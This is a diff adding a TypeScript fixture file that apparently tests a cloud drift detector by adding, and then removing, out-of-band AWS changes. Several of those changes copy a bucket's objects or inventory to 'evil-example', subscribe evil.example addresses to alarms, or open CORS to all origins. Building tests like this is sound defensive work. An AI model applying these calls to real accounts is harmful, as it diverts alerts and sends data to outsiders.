@@ -1,0 +1,204 @@
+import { PutTargetsCommand, RemoveTargetsCommand } from "@aws-sdk/client-eventbridge";
+import {
+  DeleteBucketCorsCommand,
+  DeleteBucketInventoryConfigurationCommand,
+  DeleteBucketReplicationCommand,
+  DeleteBucketWebsiteCommand,
+  PutBucketCorsCommand,
+  PutBucketInventoryConfigurationCommand,
+  PutBucketLoggingCommand,
+  PutBucketNotificationConfigurationCommand,
+  PutBucketReplicationCommand,
+  PutBucketWebsiteCommand,
+} from "@aws-sdk/client-s3";
+import { CreateScheduleCommand, DeleteScheduleCommand } from "@aws-sdk/client-scheduler";
+import { ListSubscriptionsByTopicCommand, SubscribeCommand, UnsubscribeCommand } from "@aws-sdk/client-sns";
+import type { Clouds } from "./clouds";
+
+/** Names in AWS of what others can add to. */
+export interface Places {
+  readonly bucket: string;
+  readonly topicArn: string;
+  readonly rule: string;
+  readonly scheduleGroup: string;
+  /** ARNs that something added may name. */
+  readonly clusterArn: string;
+  readonly roleArn: string;
+}
+
+/** Something that is put beside what the stack declares, and that no resource of the aws provider reports. */
+export interface Addition {
+  readonly name: string;
+  readonly by: string;
+  add(clouds: Clouds, places: Places): Promise<unknown>;
+  remove(clouds: Clouds, places: Places): Promise<unknown>;
+  /** The line of the report: severity, identity and the beginning of its value. `$bucket` and the like stand for the places. */
+  readonly reports: string;
+}
+
+const subscribe = async (
+  { sns }: Clouds,
+  { topicArn: TopicArn }: Places,
+  Protocol: string,
+  Endpoint: string,
+) => await sns.send(new SubscribeCommand({ TopicArn, Protocol, Endpoint }));
+const unsubscribe = async ({ sns }: Clouds, { topicArn: TopicArn }: Places, endpoint: string) => {
+  const { Subscriptions = [] } = await sns.send(new ListSubscriptionsByTopicCommand({ TopicArn }));
+  for (const { SubscriptionArn, Endpoint } of Subscriptions) {
+    if (Endpoint === endpoint) await sns.send(new UnsubscribeCommand({ SubscriptionArn }));
+  }
+};
+
+/** Reported by AwsWatch, left as they are, and accepted by name. */
+export const additions: readonly Addition[] = [
+  {
+    name: "another address gets the alarms",
+    by: "aws sns subscribe --protocol email",
+    add: async (clouds, places) => await subscribe(clouds, places, "email", "somebody@evil.example"),
+    remove: async (clouds, places) => await unsubscribe(clouds, places, "somebody@evil.example"),
+    reports: "opens    topic subscription email somebody@evil.example: added: of account",
+  },
+  {
+    name: "a webhook gets the alarms",
+    by: "aws sns subscribe --protocol https",
+    add: async (clouds, places) => await subscribe(clouds, places, "https", "https://evil.example/token"),
+    remove: async (clouds, places) => await unsubscribe(clouds, places, "https://evil.example/token"),
+    reports: "opens    topic subscription https https://evil.example/ ",
+  },
+  {
+    name: "the rule for failed tasks has another target",
+    by: "aws events put-targets",
+    add: async ({ events }, { rule: Rule, topicArn }) =>
+      await events.send(
+        new PutTargetsCommand({ Rule, Targets: [{ Id: "by-hand", Arn: `${topicArn}-of-somebody-else` }] }),
+      ),
+    remove: async ({ events }, { rule: Rule }) =>
+      await events.send(new RemoveTargetsCommand({ Rule, Ids: ["by-hand"] })),
+    reports: "opens    event target $rule by-hand: added: $topicArn-of-somebody-else",
+  },
+  {
+    name: "a schedule is added to the group",
+    by: "aws scheduler create-schedule",
+    add: async ({ schedules }, { scheduleGroup: GroupName, clusterArn, roleArn }) =>
+      await schedules.send(
+        new CreateScheduleCommand({
+          GroupName,
+          Name: "by-hand",
+          ScheduleExpression: "rate(1 hour)",
+          FlexibleTimeWindow: { Mode: "OFF" },
+          Target: { Arn: clusterArn, RoleArn: roleArn },
+        }),
+      ),
+    remove: async ({ schedules }, { scheduleGroup: GroupName }) =>
+      await schedules.send(new DeleteScheduleCommand({ GroupName, Name: "by-hand" })),
+    reports: "opens    schedule $scheduleGroup/by-hand: added: ENABLED, $clusterArn",
+  },
+  {
+    name: "pages of another site may read the bucket",
+    by: "aws s3api put-bucket-cors",
+    add: async ({ s3 }, { bucket: Bucket }) =>
+      await s3.send(
+        new PutBucketCorsCommand({
+          Bucket,
+          CORSConfiguration: { CORSRules: [{ AllowedMethods: ["GET"], AllowedOrigins: ["*"] }] },
+        }),
+      ),
+    remove: async ({ s3 }, { bucket: Bucket }) => await s3.send(new DeleteBucketCorsCommand({ Bucket })),
+    reports: "opens    bucket CORS $bucket: added: ",
+  },
+  {
+    name: "the bucket is a website",
+    by: "aws s3api put-bucket-website",
+    add: async ({ s3 }, { bucket: Bucket }) =>
+      await s3.send(
+        new PutBucketWebsiteCommand({
+          Bucket,
+          WebsiteConfiguration: { IndexDocument: { Suffix: "index.html" } },
+        }),
+      ),
+    remove: async ({ s3 }, { bucket: Bucket }) => await s3.send(new DeleteBucketWebsiteCommand({ Bucket })),
+    reports: 'opens    bucket website $bucket: added: {"IndexDocument":{"Suffix":"index.html"}}',
+  },
+  {
+    name: "the bucket is copied to another one",
+    by: "aws s3api put-bucket-replication",
+    add: async ({ s3 }, { bucket: Bucket, roleArn }) =>
+      await s3.send(
+        new PutBucketReplicationCommand({
+          Bucket,
+          ReplicationConfiguration: {
+            Role: roleArn,
+            Rules: [
+              {
+                ID: "by-hand",
+                Status: "Enabled",
+                Priority: 1,
+                Filter: { Prefix: "" },
+                DeleteMarkerReplication: { Status: "Disabled" },
+                Destination: { Bucket: "arn:aws:s3:::evil-example" },
+              },
+            ],
+          },
+        }),
+      ),
+    remove: async ({ s3 }, { bucket: Bucket }) =>
+      await s3.send(new DeleteBucketReplicationCommand({ Bucket })),
+    reports: "opens    bucket replication $bucket: added: ",
+  },
+  {
+    name: "every new object is told to another topic",
+    by: "aws s3api put-bucket-notification-configuration",
+    add: async ({ s3 }, { bucket: Bucket, topicArn }) =>
+      await s3.send(
+        new PutBucketNotificationConfigurationCommand({
+          Bucket,
+          NotificationConfiguration: {
+            TopicConfigurations: [{ Id: "by-hand", TopicArn: topicArn, Events: ["s3:ObjectCreated:*"] }],
+          },
+        }),
+      ),
+    remove: async ({ s3 }, { bucket: Bucket }) =>
+      await s3.send(new PutBucketNotificationConfigurationCommand({ Bucket, NotificationConfiguration: {} })),
+    reports: "opens    bucket notification $bucket: added: ",
+  },
+  {
+    name: "requests to the bucket are logged elsewhere",
+    by: "aws s3api put-bucket-logging",
+    add: async ({ s3 }, { bucket: Bucket }) =>
+      await s3.send(
+        new PutBucketLoggingCommand({
+          Bucket,
+          BucketLoggingStatus: { LoggingEnabled: { TargetBucket: Bucket, TargetPrefix: "by-hand/" } },
+        }),
+      ),
+    remove: async ({ s3 }, { bucket: Bucket }) =>
+      await s3.send(new PutBucketLoggingCommand({ Bucket, BucketLoggingStatus: {} })),
+    reports: "extra    bucket logging $bucket: added: ",
+  },
+  {
+    name: "lists of all objects go to another bucket",
+    by: "aws s3api put-bucket-inventory-configuration",
+    add: async ({ s3 }, { bucket: Bucket }) =>
+      await s3.send(
+        new PutBucketInventoryConfigurationCommand({
+          Bucket,
+          Id: "by-hand",
+          InventoryConfiguration: {
+            Id: "by-hand",
+            IsEnabled: true,
+            IncludedObjectVersions: "All",
+            Schedule: { Frequency: "Daily" },
+            Destination: { S3BucketDestination: { Bucket: "arn:aws:s3:::evil-example", Format: "CSV" } },
+          },
+        }),
+      ),
+    remove: async ({ s3 }, { bucket: Bucket }) =>
+      await s3.send(new DeleteBucketInventoryConfigurationCommand({ Bucket, Id: "by-hand" })),
+    reports: "opens    bucket inventory $bucket: added: ",
+  },
+];
+
+/** Returns the line of an addition with the names of these places. */
+export function lineFor({ reports }: Addition, places: Places): string {
+  return reports.replaceAll(/\$(\w+)/g, (_, name: string) => places[name as keyof Places]);
+}
